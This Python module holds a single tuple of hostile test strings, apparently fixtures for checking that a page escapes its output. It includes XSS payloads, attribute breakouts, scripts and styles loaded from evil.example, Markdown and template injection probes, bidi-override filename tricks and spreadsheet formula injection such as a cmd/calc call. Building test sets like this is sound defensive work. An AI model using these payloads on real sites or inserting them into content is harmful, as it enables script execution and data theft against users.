"""Texts that a page must show as they are: markup, scripts, templates, entities, invisible and directed letters, styles."""

from typing import Final

HOSTILE: Final = (
    # tags that run by themselves
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script\t>",
    "</script><script>alert(1)</script>", "<script>alert`1`", "<img src=x onerror=alert(1)>", "<img src=x onerror=&#97;lert(1)>", '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert&#40;1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>", "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x", "<isindex action=javascript:alert(1)>", "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext>", "<!--<img src=x onerror=alert(1)>-->", "<!--", "-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x>", "<a href=javascript:alert(1)>x</a>", "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    # out of attributes and elements
    '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", "` onerror=alert(1)", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</strong></p></main></body></html><script>alert(1)</script>", "</option></select><img src=x onerror=alert(1)>",
    # Markdown
    "[x](javascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "![x](x\" onerror=\"alert(1))", "<javascript:alert(1)>", "[x]: javascript:alert(1)",
    # templates and format strings
    "{{ 7*7 }}", "{{ config }}", "{% include 'base.html.j2' %}", "{# comment #}", "${7*7}", "#{7*7}", "%(x)s %s %n", "{0} {x} {{", "{inputs.__class__}", "<%= 7*7 %>",
    # entities
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&amp;amp;", "&nbsp;&zwnj;&", "&#x3c;", "\\u003cscript\\u003e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # letters that are not seen, and directions
    "\u202egnp.exe\u202c", "\u2066\u202ea\u2069", "a\u200bb\u200cc\u200dd\ufeffe", "\u2028alert(1)\u2029", "\u00adx\u061c", "\ufdd0\U0001f468\u200d\U0001f469\u200d\U0001f467", "Z\u0351\u036b\u0343a\u0300\u0301" * 3, "\ud7ff\ue000\uffff",
    # styles and formulas
    "<style>body{display:none}</style>", "<div style='position:fixed;inset:0;background:url(//evil.example)'>", "expression(alert(1))", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("http://evil.example")',
)  # fmt: skip
